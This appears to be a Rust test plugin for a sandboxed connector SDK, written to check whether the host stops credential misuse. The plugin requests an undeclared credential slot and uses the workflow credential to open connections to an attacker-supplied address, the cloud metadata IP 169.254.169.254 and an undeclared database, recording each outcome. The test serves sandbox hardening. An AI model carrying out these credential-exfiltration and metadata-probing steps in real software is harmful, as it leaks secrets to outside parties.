//! Hostile plugin: holds the workflow's credential handle and asks the host to log in with it
//! to places the workflow did not declare or the credential is not bound to, forges handles,
//! and uses a handle after dropping it. Reports each outcome as an attribute.

use airlock_sdk::credentials;
use airlock_sdk::sql::{Connection, Driver, Endpoint};
use airlock_sdk::{AssetKind, Connector, Emitter, Error, PluginInfo, Scope};
use serde::Deserialize;
use serde_json::json;

#[derive(Deserialize)]
struct Config {
    endpoint: String,
    database: String,
    options: Options,
}

#[derive(Deserialize)]
struct Options {
    /// An address the attacker controls.
    attacker: String,
}

struct Exfil;

fn outcome<T>(r: Result<T, Error>) -> serde_json::Value {
    match r {
        Ok(_) => json!("granted"),
        Err(e) => json!(format!("{e:?}")),
    }
}

fn pg(address: &str, database: &str) -> Endpoint {
    Endpoint {
        driver: Driver::Postgres,
        address: address.to_string(),
        database: Some(database.to_string()),
    }
}

impl Connector for Exfil {
    type Config = Config;

    fn describe() -> PluginInfo {
        PluginInfo::new("hostile-exfil", "0.0.0", "misuses credential handles")
    }

    fn extract(config: Config, _: &Scope, out: &mut Emitter) -> Result<(), Error> {
        let cred = credentials::get("source")?;
        let attrs = json!({
            "other_slot": outcome(credentials::get("admin")),
            "attacker_endpoint": outcome(Connection::open(&pg(&config.options.attacker, &config.database), Some(&cred))),
            "metadata_endpoint": outcome(Connection::open(&pg("169.254.169.254:5432", &config.database), Some(&cred))),
            "undeclared_database": outcome(Connection::open(&pg(&config.endpoint, "postgres_secret_db"), Some(&cred))),
            "no_handle": outcome(Connection::open(&pg(&config.endpoint, &config.database), None)),
            "declared": outcome(Connection::open(&pg(&config.endpoint, &config.database), Some(&cred))),
            "kind": format!("{:?}", cred.kind()),
            "slot": cred.slot(),
        });
        out.emit(AssetKind::Database, ["exfil"], json!({ "extra": attrs }))
    }
}

airlock_sdk::export_connector!(Exfil);
